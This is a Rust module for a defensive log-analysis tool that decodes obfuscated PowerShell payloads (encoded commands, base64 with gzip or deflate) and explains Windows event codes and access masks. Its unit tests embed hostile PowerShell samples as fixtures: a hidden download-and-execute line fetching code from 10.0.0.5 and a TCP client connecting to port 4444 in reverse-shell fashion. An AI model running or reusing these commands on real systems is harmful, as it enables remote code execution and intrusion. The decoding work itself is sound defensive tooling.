//! What an analyst decodes by hand, done for them: PowerShell's `-EncodedCommand` (base64 of
//! UTF-16LE) and `FromBase64String('...')` payloads, gzip- or deflate-compressed or not; Windows
//! message codes (`%%1538`, `%%1053`) and access masks in words. Output is bounded and meant to
//! be shown beside the raw text, sanitized by the caller.

use base64::Engine as _;
use regex::Regex;
use std::io::Read;
use std::sync::LazyLock;

/// The most decoded text kept from one payload.
const DECODED_MAX: usize = 64 * 1024;

static ENCODED_COMMAND: LazyLock<Option<Regex>> = LazyLock::new(|| {
    // PowerShell accepts any prefix of -EncodedCommand from -e on (and -ec), with - or /.
    Regex::new(r"(?i)(?:^|\s)[-/]e(?:c|n|nc|nco|ncod|ncode|ncoded|ncodedc|ncodedco|ncodedcom|ncodedcomm|ncodedcomma|ncodedcomman|ncodedcommand)?\s+['\x22]?([A-Za-z0-9+/]{16,}={0,2})")
        .ok()
});

static FROM_BASE64: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?i)FromBase64String\(\s*['\x22]([A-Za-z0-9+/]{16,}={0,2})['\x22]").ok()
});

/// Each payload found in `text`: how it was encoded, and the decoded text.
pub fn payloads(text: &str) -> Vec<(&'static str, String)> {
    let mut out = Vec::new();
    let (Some(encoded), Some(from_b64)) = (ENCODED_COMMAND.as_ref(), FROM_BASE64.as_ref()) else {
        return out;
    };
    for c in encoded.captures_iter(text) {
        if let Some(t) = c
            .get(1)
            .and_then(|m| b64(m.as_str()))
            .and_then(|b| utf16le(&b))
        {
            out.push(("-EncodedCommand (base64, UTF-16LE)", t));
        }
    }
    for c in from_b64.captures_iter(text) {
        let Some(bytes) = c.get(1).and_then(|m| b64(m.as_str())) else {
            continue;
        };
        if bytes.starts_with(&[0x1f, 0x8b]) {
            if let Some(t) = inflate(flate2::read::GzDecoder::new(&bytes[..])) {
                out.push(("FromBase64String, gzip", t));
            }
        } else if let Some(t) = utf16le(&bytes) {
            out.push(("FromBase64String", t));
        } else if let Some(t) = inflate(flate2::read::DeflateDecoder::new(&bytes[..])) {
            // Before plain text: a deflate stream of stored blocks also reads as mostly text.
            out.push(("FromBase64String, deflate", t));
        } else if let Some(t) = printable(&bytes) {
            out.push(("FromBase64String", t));
        }
    }
    out
}

fn b64(s: &str) -> Option<Vec<u8>> {
    let s = s.trim_end_matches('=');
    base64::engine::general_purpose::STANDARD_NO_PAD
        .decode(s)
        .ok()
}

/// Decompressed text, at most `DECODED_MAX` bytes of it, when it reads as text.
fn inflate(r: impl Read) -> Option<String> {
    let mut buf = Vec::new();
    r.take(DECODED_MAX as u64).read_to_end(&mut buf).ok()?;
    utf16le(&buf).or_else(|| printable(&buf))
}

/// UTF-16LE text (what `-EncodedCommand` carries), when it is mostly printable.
fn utf16le(b: &[u8]) -> Option<String> {
    if b.len() < 4 || !b.len().is_multiple_of(2) || b[1] != 0 {
        return None;
    }
    let units: Vec<u16> = b
        .chunks_exact(2)
        .take(DECODED_MAX / 2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]))
        .collect();
    let s = String::from_utf16_lossy(&units);
    readable(&s).then_some(s)
}

fn printable(b: &[u8]) -> Option<String> {
    let s = String::from_utf8_lossy(&b[..b.len().min(DECODED_MAX)]).into_owned();
    readable(&s).then_some(s)
}

fn readable(s: &str) -> bool {
    let n = s.chars().count().max(1);
    let ok = s
        .chars()
        .filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
        .filter(|c| *c != '\u{fffd}')
        .count();
    ok * 10 >= n * 9
}

/// Win32 error codes and audit message ids that Windows writes as `%%N` in event text.
fn message(code: u32) -> Option<&'static str> {
    Some(match code {
        2 => "the system cannot find the file specified",
        3 => "the system cannot find the path specified",
        5 => "access is denied",
        193 => "not a valid Win32 application",
        216 => "the image is for another machine type",
        1053 => "the service did not respond to the start or control request in time",
        1058 => "the service is disabled",
        1067 => "the process terminated unexpectedly",
        1069 => "the service did not start due to a logon failure",
        1275 => "a driver was blocked from loading",
        1537 => "DELETE",
        1538 => "READ_CONTROL",
        1539 => "WRITE_DAC",
        1540 => "WRITE_OWNER",
        1541 => "SYNCHRONIZE",
        1542 => "ACCESS_SYS_SEC",
        1832 => "Identification",
        1833 => "Impersonation",
        1840 => "Delegation",
        1842 => "Yes",
        1843 => "No",
        1936 => "token elevation type 1 (full token, UAC off or built-in admin)",
        1937 => "token elevation type 2 (elevated)",
        1938 => "token elevation type 3 (limited)",
        4416 => "ReadData (or ListDirectory)",
        4417 => "WriteData (or AddFile)",
        4418 => "AppendData (or AddSubdirectory or CreatePipeInstance)",
        4419 => "ReadEA",
        4420 => "WriteEA",
        4421 => "Execute/Traverse",
        4422 => "DeleteChild",
        4423 => "ReadAttributes",
        4424 => "WriteAttributes",
        _ => return None,
    })
}

static MESSAGE_CODE: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"%%(\d{1,5})").ok());

/// Access-mask bits in words (file, pipe and share rights; generic rights).
fn access_mask(mask: u32) -> String {
    const BITS: [(u32, &str); 19] = [
        (0x1, "ReadData"),
        (0x2, "WriteData"),
        (0x4, "AppendData"),
        (0x8, "ReadEA"),
        (0x10, "WriteEA"),
        (0x20, "Execute"),
        (0x40, "DeleteChild"),
        (0x80, "ReadAttributes"),
        (0x100, "WriteAttributes"),
        (0x1_0000, "DELETE"),
        (0x2_0000, "READ_CONTROL"),
        (0x4_0000, "WRITE_DAC"),
        (0x8_0000, "WRITE_OWNER"),
        (0x10_0000, "SYNCHRONIZE"),
        (0x100_0000, "ACCESS_SYS_SEC"),
        (0x1000_0000, "GENERIC_ALL"),
        (0x2000_0000, "GENERIC_EXECUTE"),
        (0x4000_0000, "GENERIC_WRITE"),
        (0x8000_0000, "GENERIC_READ"),
    ];
    let names: Vec<&str> = BITS
        .iter()
        .filter(|(b, _)| mask & b != 0)
        .map(|(_, n)| *n)
        .collect();
    if names.is_empty() {
        "no rights".into()
    } else {
        names.join(" ")
    }
}

/// A field's value in words, where Windows wrote a code: `%%N` message codes, access masks.
pub fn explain(field: &str, value: &str) -> Option<String> {
    let lower = field.to_ascii_lowercase();
    if lower.contains("accessmask") || lower.contains("access_mask") {
        let hex = value
            .trim()
            .trim_start_matches("0x")
            .trim_start_matches("0X");
        if let Ok(m) = u32::from_str_radix(hex, 16) {
            return Some(access_mask(m));
        }
    }
    let codes = MESSAGE_CODE.as_ref().filter(|_| value.contains("%%"))?;
    let mut known = false;
    let text = codes.replace_all(value, |c: &regex::Captures<'_>| {
        let code = c.get(1).and_then(|m| m.as_str().parse().ok());
        match code.and_then(message) {
            Some(m) => {
                known = true;
                m.to_string()
            }
            None => c.get(0).map_or("", |m| m.as_str()).to_string(),
        }
    });
    known.then(|| text.into_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn utf16_b64(s: &str) -> String {
        let bytes: Vec<u8> = s.encode_utf16().flat_map(u16::to_le_bytes).collect();
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    #[test]
    fn encoded_commands_decode_in_every_spelling() {
        let cmd = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a')";
        for flag in ["-enc", "-EncodedCommand", "/e", "-ec", "-ENCOD"] {
            let line = format!("powershell.exe -nop -w hidden {flag} {}", utf16_b64(cmd));
            let p = payloads(&line);
            assert_eq!(p.len(), 1, "{flag}: {p:?}");
            assert_eq!(p[0].1, cmd);
        }
        // A base64-looking word that is not UTF-16 text is left alone.
        assert!(payloads("powershell -e QUJDREVGR0hJSktMTU5PUFFSU1RVVg==").is_empty());
        assert!(payloads("cmd.exe /c echo hello -executionpolicy bypass").is_empty());
    }

    #[test]
    fn compressed_payloads_are_inflated() {
        use std::io::Write;
        let script = "$c = New-Object System.Net.Sockets.TCPClient('10.0.0.5',4444)";
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        gz.write_all(script.as_bytes()).unwrap();
        let b = base64::engine::general_purpose::STANDARD.encode(gz.finish().unwrap());
        let line = format!(
            "powershell -c \"IEX(New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('{b}'))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\""
        );
        let p = payloads(&line);
        assert_eq!(p, vec![("FromBase64String, gzip", script.to_string())]);
        let mut df = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
        df.write_all(script.as_bytes()).unwrap();
        let b = base64::engine::general_purpose::STANDARD.encode(df.finish().unwrap());
        let p = payloads(&format!("[Convert]::FromBase64String(\"{b}\")"));
        assert_eq!(p, vec![("FromBase64String, deflate", script.to_string())]);
    }

    #[test]
    fn codes_and_masks_in_words() {
        assert_eq!(
            explain("ErrorCode", "%%1053").as_deref(),
            Some("the service did not respond to the start or control request in time")
        );
        assert_eq!(
            explain("AccessList", "%%1538\n\t\t\t\t%%4416").as_deref(),
            Some("READ_CONTROL\n\t\t\t\tReadData (or ListDirectory)")
        );
        assert_eq!(
            explain("AccessMask", "0x12019f").as_deref(),
            Some(
                "ReadData WriteData AppendData ReadEA WriteEA ReadAttributes WriteAttributes READ_CONTROL SYNCHRONIZE"
            )
        );
        assert_eq!(explain("AccessList", "%%99999"), None);
        assert_eq!(explain("CommandLine", "cmd /c echo 50%% done"), None);
    }
}
